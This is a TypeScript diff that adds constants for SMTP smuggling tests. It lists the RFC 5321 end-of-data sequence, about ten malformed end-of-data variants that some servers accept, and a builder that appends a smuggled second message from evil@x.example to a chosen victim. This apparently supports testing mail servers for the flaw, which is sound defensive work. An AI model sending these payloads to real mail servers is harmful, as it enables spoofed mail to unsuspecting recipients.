@@ -1,0 +1,21 @@
+/** RFC 5321 §4.1.1.4. */
+export const trueEnd = "\r\n.\r\n";
+
+/** What some server takes for the end of a message: the sequences of SMTP-Smuggling-Tools and of checklist D3. */
+export const ends = [
+  "\n.\n",
+  "\n.\r",
+  "\r.\n",
+  "\r.\r",
+  "\n.\r\n",
+  "\r.\r\n",
+  "\r\n.\n",
+  "\r\n.\r",
+  "\r\n.\r\r\n",
+  "\r\n\0.\r\n",
+  trueEnd,
+];
+
+/** A message for somebody else, in the words that would send it. */
+export const smuggledTo = (victim: string) =>
+  `MAIL FROM:<evil@x.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\n`;
